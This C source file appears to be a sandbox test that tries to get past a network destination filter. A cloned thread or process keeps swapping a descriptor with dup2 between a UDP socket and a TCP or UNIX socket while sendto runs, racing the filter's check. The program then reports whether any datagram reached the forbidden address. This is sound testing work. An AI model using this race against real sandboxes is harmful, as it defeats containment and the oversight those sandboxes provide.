/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * The descriptor is swapped by dup2(2) between a UDP socket and one of another kind while a
 *datagram to a forbidden address is being decided: a decision on one socket, the act on the other.
 *A TCP socket ignores the address, a UNIX one refuses it.
 *
 *	swap-send thread|process unix|tcp FORBIDDEN TRIES
 *
 * `process`: the swapper shares the descriptors, but neither memory nor process with the sender.
 */

#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define SLOT       200 /* the descriptor that changes under the call */
#define STACK_SIZE 65536

struct swap {
	int udp, other;
	atomic_bool over;
};

static int swapper(void *arg)
{
	struct swap *swap = arg;

	while (!atomic_load_explicit(&swap->over, memory_order_relaxed)) {
		dup2(swap->other, SLOT);
		dup2(swap->udp, SLOT);
	}
	return 0;
}

static void *shared(size_t size)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	need(memory != MAP_FAILED, "mmap");
	return memory;
}

static pid_t start(struct swap *swap, int flags)
{
	char *stack = shared(STACK_SIZE);
	pid_t pid = clone(swapper, stack + STACK_SIZE, flags, swap);

	need(pid > 0, "clone");
	return pid;
}

static long race(const struct swap *swap, const struct place *forbidden, long tries)
{
	static char letter[] = "out of the cage";
	long sent = 0;

	dup2(swap->udp, SLOT);
	for (long i = 0; i < tries; i++)
		sent += sendto(SLOT, letter, sizeof(letter), MSG_NOSIGNAL | MSG_DONTWAIT,
				(const struct sockaddr *)&forbidden->address,
				forbidden->length) >= 0;
	return sent;
}

int main(int argc, char **argv)
{
	struct swap *swap = shared(sizeof(*swap));
	struct place forbidden;
	long tries = argc == 5 ? atol(argv[4]) : 0, sent;
	bool process;
	pid_t pid;

	if (tries < 1)
		return untried("usage: swap-send thread|process unix|tcp FORBIDDEN TRIES");
	process = strcmp(argv[1], "process") == 0;
	forbidden = place_parse(argv[3]);
	swap->udp = place_socket(&forbidden, SOCK_DGRAM);
	swap->other = strcmp(argv[2], "tcp") == 0 ? place_socket(&forbidden, SOCK_STREAM)
						  : socket(AF_UNIX, SOCK_DGRAM, 0);
	need(swap->udp >= 0 && swap->other >= 0, "socket");
	pid = start(swap, process ? CLONE_FILES | SIGCHLD : CLONE_FILES | CLONE_VM | SIGCHLD);
	sent = race(swap, &forbidden, tries);
	atomic_store(&swap->over, true);
	need(waitpid(pid, NULL, 0) == pid, "waitpid");
	if (sent > 0)
		return succeeded("%ld of %ld sent to the forbidden place", sent, tries);
	return stopped("%ld tries, none was sent", tries);
}
